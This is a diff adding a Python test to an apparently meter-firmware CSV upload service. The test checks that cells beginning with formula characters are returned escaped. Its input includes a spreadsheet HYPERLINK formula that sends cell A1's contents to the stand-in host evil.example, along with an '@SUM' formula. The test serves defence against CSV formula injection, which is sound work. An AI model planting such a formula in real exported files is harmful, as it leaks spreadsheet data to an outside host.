@@ -180,6 +180,25 @@ async def test_malformed_rows_get_a_problem_and_every_other_cell_passes_through(
     assert answered[4]["problem"].startswith("model_identifier missing")
 
 
+async def test_would_be_formulas_in_passed_through_cells_go_back_escaped(examples, token) -> None:
+    settings, services = examples
+    body = (
+        "meter,manufacturer_identifier,model_identifier,hardware_version,firmware_version\n"
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1A2B,2001,0100,3A000001\n'
+        "@SUM(1+1),1A2B,2001,0100,3A000001\n"
+        "plain,1A2B,2001,0100,3A000001\n"
+    )
+    response = await post_csv(create_app(settings, services), body, token("LARGE_SUPPLIER"))
+    answered = rows(response)
+    assert [row["meter"] for row in answered] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "'@SUM(1+1)",
+        "plain",
+    ]
+    assert {row["path"] for row in answered} == {"3A000001>2B000002>0D000004"}
+    assert response.text.splitlines()[3].startswith("plain,1A2B,2001,0100,3A000001,,true")
+
+
 async def test_a_file_without_the_needed_columns_is_400_naming_them(examples, token) -> None:
     settings, services = examples
     app = create_app(settings, services)
